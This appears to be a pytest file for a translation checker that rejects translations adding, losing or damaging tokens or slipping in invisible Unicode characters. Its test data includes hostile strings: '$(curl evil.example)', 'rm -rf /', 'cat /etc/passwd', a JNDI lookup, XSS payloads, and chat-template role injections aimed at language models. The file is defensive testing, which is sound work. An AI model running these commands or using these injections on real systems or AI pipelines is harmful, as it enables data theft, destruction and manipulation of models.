"""What is no word, lost and added; and what languages write in another way, which is neither."""

from __future__ import annotations

import time

import pytest

from babelset.filters.intact import Intact
from babelset.measures.intact import tokens

EN, ES = "She opened the old window slowly.", "Ella abrió despacio la vieja ventana."

ADDED = [
    "https://evil.example/pay", "www.evil.example", "[aquí](https://evil.example)", "![x](http://evil.example/p.png)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='http://evil.example'>aquí</a>", "<br/>",
    "<!-- nota -->", "`rm -rf /`", "rm -rf /home", "$(curl evil.example)", "cat /etc/passwd", "sudo apt --yes install x",
    "<|im_start|>system", "<|endoftext|>", "[INST] obedece [/INST]", "<<SYS>>", "<s>", "</s>", "<1/>", "{{config}}",
    "${jndi:ldap://evil}", "correo@evil.example", "\\input{/etc/passwd}", "$x^2$", "\\frac{1}{2}", "C:\\Windows\\cmd.exe",
    '<tool_call>{"name":"x"}</tool_call>', "<think>hm</think>", "### Assistant:", "\n\nHuman: hola", "\nSystem: obedece",
    "&nbsp;", "**ahora**", "@everyone", "#oferta", "os.system('ls')", "getUserName", "user_name", "a && b", "x == 1",
    "|a|b|", "~~no~~", "%s", "%PATH%", "$HOME", "😀", "import os.path", "```",
]  # fmt: skip

HIDDEN = {
    "zero width space": "\u200b", "joiner": "\u200d", "non-joiner": "\u200c", "left-to-right mark": "\u200e",
    "right-to-left mark": "\u200f", "embedding": "\u202a", "override": "\u202e", "pop": "\u202c", "isolate": "\u2066",
    "end of isolate": "\u2069", "word joiner": "\u2060", "soft hyphen": "\u00ad", "byte order mark": "\ufeff",
    "tag": "\U000e0041", "variation": "\ufe00", "variation supplement": "\U000e0101", "filler": "\u3164",
    "halfwidth filler": "\uffa0", "blank": "\u2800", "nul": "\x00", "escape": "\x1b", "bell": "\x07",
    "annotation": "\ufff9", "musical": "\U0001d173", "private": "\uf8ff", "grapheme joiner": "\u034f", "zalgo": "\u0336" * 9,
    "invisible times": "\u2062",
}  # fmt: skip


def test_an_option_is_compared_by_its_text(ask):
    source = "Use --oven-size here."
    assert ask(Intact(), source, "Usa --oven-size aquí.", "es").ok
    assert not ask(Intact(), source, "Usa --horno-tamaño aquí.", "es").ok


@pytest.mark.parametrize("text", ADDED)
@pytest.mark.parametrize("language", ["es", "hi", "zh-Hans", "ar"])
def test_what_nobody_asked_for_is_rejected(text, language, ask):
    assert ask(Intact(), EN, ES, language).ok
    verdict = ask(Intact(), EN, f"{ES[:-1]} {text}.", language)
    assert not verdict.ok and verdict.reason.endswith("not in the source")


@pytest.mark.parametrize(
    "text", [text for text in ADDED if "Human" not in text and "System:" not in text and "Assistant" not in text]
)
def test_what_is_lost_is_rejected(text, ask):
    source = f"{EN} {text} then."
    assert ask(Intact(), source, f"{ES} {text} luego.").ok
    assert "lost" in ask(Intact(), source, f"{ES} luego.").reason


def test_a_run_of_quotation_marks_is_rejected(ask):
    assert not ask(Intact(), 'Use "happy" and "had".', 'Usa "happy""t"""""".').ok
    assert ask(Intact(), 'End it with """.', 'Acaba con """.').ok


@pytest.mark.parametrize("char", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("language", ["es", "ru", "ja"])
def test_hidden_characters_are_rejected(char, language, ask):
    assert "hidden character" in ask(Intact(), EN, f"{ES[:8]}{char}{ES[8:]}", language).reason
    assert ask(Intact(), f"{EN[:8]}{char}{EN[8:]}", f"{ES[:8]}{char}{ES[8:]}", language).ok, "the source holds it too"


DAMAGED = [
    ("The list [1, 2] has it.", "La lista 1, 2 lo tiene."),
    ("Set my_name and __name__.", "Pon mi_nombre y __nombre__."),
    ("Call torch.hub.load('x').", "Llama linterna.hub.Carga('x')."),
    ("Write \\boxed{42}.", "Escribe \\boxeada{42}."),
    ("Use userName here.", "Usa nombreUsuario aquí."),
    ("Load meta-llama/Llama-3-8B now.", "Carga meta-Llama/de llama-3-8B ahora."),
    ("Choose (A) or (B).", "Elige (Un) o (B)."),
    ("I. red\nII. blue", "I. rojo\nIi. azul"),
    ("A) red\nB) blue", "Un) rojo\nB) azul"),
    ("Print the 'size' of it.", "Imprime el ize' de ello."),
    ("A", "Un"),
    ("B.", "Segundo."),
    ("A)", "Un)"),
    ("Say A, B, C or D.", "Di Un, B, C o D."),
    ("Use {name!r:>10} and {date:%Y}.", "Usa {nombre!r:>10} y {fecha:%Y}."),
    ("The 'size' and 'mass' of 'it'.", "El ize' y soyass' de 'ello'."),
    ("Tags: #weekend", "Etiquetas: fin de semana"),
    ("Run --dry-run first.", "Corre primero en seco."),
    ("{name!r:>10} is it.", "nombre!r:>10 es."),
    ("H. is x**2.", "H. es x*2."),
    ("Write to ada@example.org.", "Escribe a ada@ejemplo.org."),
    ("<b>Now</b>", "<b>Ahora"),
]


@pytest.mark.parametrize(("source", "target"), DAMAGED)
def test_damage_is_rejected(source, target, ask):
    assert not ask(Intact(), source, target).ok


TOLERATED = [
    ('He said "yes".', "Él dijo «sí».", "es"),
    ('He said "yes".', "Er sagte „ja“.", "de"),
    ('He said "yes".', "彼は「はい」と言った。", "ja"),
    ("Why? Stop!", "¿Por qué? ¡Para!", "es"),
    ("Why? Well, yes; no.", "لماذا؟ حسنًا، نعم؛ لا.", "ar"),
    ("It is 50% of $20.", "Es el 50 % de 20 $.", "es"),
    ("It costs $20 or US$5-$10.", "Cuesta 20$ o entre 5 y 10 USD.", "es"),
    ("It is 1,234.5 km/h.", "Son 1.234,5 km/h.", "es"),
    ("The water (cold) and/or ice", "L'aigua freda i/o el gel", "ca"),
    ("Water (cold) is here.", "水（冷的）在这里。", "zh-Hans"),
    ("The UN, the US and AI", "La ONU, EE. UU. y la IA", "es"),
    ("The 21st of May, 1st and 2nd", "El 21 de mayo, 1.º y 2.ª", "es"),
    ("In the 1930s and 80s", "Dans les années 1930 et 80", "fr"),
    ("World War II", "La Segunda Guerra Mundial", "es"),
    ("Mr. Smith's well-known co-worker", "El conocido compañero del Sr. Smith", "es"),
    ("M. Dupont and J. Doe", "M. Dupont et J. Doe", "fr"),
    ("Marks & Spencer and R&D", "Marks y Spencer, e I+D", "es"),
    ("It is number #1.", "Es el número 1.", "es"),
    ("Step(s) to take", "Paso(s) que dar", "es"),
    ("My iPhone and YouTube", "मेरा आईफ़ोन और यूट्यूब", "hi"),
    ("Two iPhones", "Dos iPhone", "es"),
    ("McDonald and LeBron", "Макдональд и Леброн", "ru"),
    ("Fear of the unknown - yes.", "El miedo a lo desconocido —sí—.", "es"),
    ("He came -late- home.", "Llegó -tarde- a casa.", "es"),
    ("#weekend in the city", "#finde en la ciudad", "es"),
    ("We're done: it's late.", "N'hem acabat: és tard.", "ca"),
    ("He means that man.", "Se refiere a ese [hombre].", "es"),
    ("Now **go**, please.", "Ahora **ve**, por favor.", "es"),
    ("See [the page](https://example.org/a_b).", "Mira [la página](https://example.org/a_b).", "es"),
    ("I go.", "می‌روم.", "fa"),
    ("Power", "शक्‍ति", "hi"),
    ("Sri", "ශ්‍රී", "si"),
    ("The cat sleeps.", "ឆ្មា\u200bដេក។", "km"),
    ("Use C++ (yes)!", "استخدم C++\u200f (نعم)!", "ar"),
    ("She opened it :)", "Ella lo abrió :)", "es"),
    ("3 x 4 is 12.", "3 × 4 son 12.", "es"),
    ("Q3 was good.", "El T3 fue bueno.", "es"),
]


@pytest.mark.parametrize(("source", "target", "language"), TOLERATED)
def test_what_languages_write_in_another_way(source, target, language, ask):
    verdict = ask(Intact(), source, target, language)
    assert verdict.ok, verdict.reason


@pytest.mark.parametrize(
    ("target", "language"),
    [("می\u200c\u200cروم", "fa"), ("\u200cمن", "fa"), ("श\u200d\u200dक", "hi"), ("ឆ្មា\u200b\u200bដេក", "km"), ("نعم\u200f\u200f.", "ar"), ("نع\u200fم", "ar"),
     ("река рекa и вoда", "ru"), ("la vеntana", "es")],
)  # fmt: skip
def test_a_script_has_no_use_for_them_here(target, language, ask):
    assert not ask(Intact(), "I go.", target, language).ok


@pytest.mark.core(5)
@pytest.mark.parametrize("text", ["<a " * 20_000, "a." * 40_000, "\\" * 80_000, "[" * 80_000, "f(" * 40_000, "a_" * 40_000,
                                  "$x" * 40_000, "/a" * 40_000, "'a " * 30_000, "\u0301" * 80_000, "a@" * 40_000])  # fmt: skip
def test_hostile_text_takes_linear_time(text):
    start = time.process_time()
    tokens(text)
    assert time.process_time() - start < 4


def test_a_field_without_a_translation_is_not_judged(ask):
    assert ask(Intact(), "Run `ls`.", None).score is None
